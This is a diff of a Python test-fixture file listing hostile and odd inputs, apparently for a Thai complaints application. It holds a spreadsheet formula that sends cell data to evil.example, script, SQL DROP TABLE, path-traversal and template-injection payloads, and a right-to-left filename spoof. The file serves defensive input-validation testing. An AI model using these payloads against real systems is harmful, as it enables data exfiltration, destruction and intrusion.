@@ -10,11 +10,9 @@ from __future__ import annotations
 REFUSE = {
     "NUL": "ไฟ\x00ดับ",
     "control characters": "ไฟ\x07ดับ\x1b[31m",
-    "C1 control": "ไฟ\x85ดับ",
     "RLO override": "ใบแจ้ง\u202eexe.fdp",
     "bidi isolate": "ถนน\u2067ชำรุด\u2069",
     "combining-mark flood": "ก" + "\u0e48\u0e49\u0e4a\u0e4b" * 40,
-    "Latin zalgo": "Z" + "\u0301\u0302\u0303\u0304\u0305" * 30,
     "10 kB string": "A" * 10_240,
 }
 CLEAN = {
@@ -23,14 +21,11 @@ CLEAN = {
     "emoji": "🚧 ถนนพัง 👷\u200d♀️🇹🇭",
     "decomposed (NFD)": "Cafe\u0301 ถนน",
     "formula": '=HYPERLINK("http://evil.example/?"&A1,"คลิก")',
-    "formula (at sign)": "@SUM(1+1)*cmd|' /C calc'!A0",
     "HTML injection": '<script>alert(1)</script><img src=x onerror="alert(2)">',
     "SQL injection": "'; DROP TABLE complaints_complaint; --",
-    "SQL injection (quote)": "1' OR '1'='1",
     "NaN": "NaN",
     "Infinity": "-Infinity",
     "huge number": "9" * 40,
-    "negative": "-1",
     "path traversal": "../../../../etc/passwd",
     "template injection": "{{ settings.SECRET_KEY }}{% debug %}",
 }
